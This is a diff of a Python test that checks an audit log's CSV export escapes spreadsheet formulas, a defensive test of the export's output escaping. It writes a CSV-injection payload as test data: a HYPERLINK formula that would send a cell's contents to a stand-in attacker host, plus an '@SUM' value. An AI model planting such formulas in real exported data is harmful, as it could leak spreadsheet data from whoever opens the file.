@@ -260,13 +260,16 @@ def test_plain_user_names_are_accepted(http: httpx.Client) -> None:
 
 
 def test_the_csv_export_never_holds_a_formula(http: httpx.Client, app: App) -> None:
-    app.tracking.create_run("churn")
-    http.post("/api/v1/users", json={"name": "mallory"}).raise_for_status()
-    app.accounts.grant_role("mallory", "viewer", model='=HYPERLINK("http://evil/"&A1)', actor=ADMIN)
+    from shipyard.audit import log
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with app.db.write() as conn:  # an actor is free text in embedded mode (SHIPYARD_USER)
+        log.append(conn, actor=formula, action="model.create", object_type="model", object_id="@SUM(1+1)")
     text = http.get("/api/v1/audit/export?format=csv").text
     cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
-    assert cells and not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
-    assert any(cell.startswith("'=HYPERLINK") or "HYPERLINK" in cell for cell in cells)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert "'" + formula in cells and "'@SUM(1+1)" in cells
+    assert app.audit.verify().valid  # the chain itself is untouched
 
 
 def test_tokens_record_their_last_use_and_expire_by_default(app: App, server: LiveServer) -> None:
